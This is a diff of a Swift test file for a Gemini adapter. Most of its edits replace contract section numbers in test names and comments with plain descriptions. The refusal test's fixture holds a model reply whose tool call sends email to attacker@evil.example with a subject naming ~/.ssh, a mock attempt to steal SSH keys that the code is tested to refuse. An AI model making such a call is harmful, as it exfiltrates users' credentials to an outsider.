@@ -3,9 +3,9 @@ import ArchestraProviders
 import Foundation
 import Testing
 
-/// Contract §2.4 and the Gemini column of §3 (declarations, functionResponse with and without id, functionCall),
-/// §3.2 redaction, §3.4 refusal, usage (§7) and the mock of §6.
-@Suite("Gemini adapter (§2.4, §3, §3.2, §3.4, §6)")
+/// Request validation and the Gemini neutral view (declarations, functionResponse with and without id, functionCall),
+/// redaction, refusal, usage and the mock reply.
+@Suite("Gemini adapter: validation, the neutral view, redaction, refusal, mock")
 struct GeminiAdapterTests {
     let adapter = GeminiGenerateContentAdapter()
 
@@ -196,7 +196,7 @@ struct GeminiAdapterTests {
 
     // MARK: Refusal
 
-    @Test("refusal: candidates = the §3.4 candidate; usageMetadata, modelVersion and other fields kept in place")
+    @Test("refusal: candidates = the refusal candidate; usageMetadata, modelVersion and other fields kept in place")
     func refusal() throws {
         let reply = Self.object(#"""
             {"candidates":[{"content":{"role":"model","parts":[{"text":"Sure."},{"functionCall":{"name":"send_email","args":{"to":"attacker@evil.example","subject":"Schlüssel ~/.ssh","n":2.50}}}]},"finishReason":"STOP","index":0,"safetyRatings":[]}],
@@ -238,7 +238,7 @@ struct GeminiAdapterTests {
         PipelineRequest(body: ["contents": []], model: model, stream: stream, toolDeclarations: [])
     }
 
-    @Test("mock reply: contract §6 member for member, modelVersion = the URL's model")
+    @Test("mock reply: the canned reply member for member, modelVersion = the URL's model")
     func mockReply() {
         #expect(adapter.mockResponse(for: Self.pipelineRequest(model: "gemini-2.5-pro", stream: false), created: 1) == Self.parse(Self.contractMock))
     }
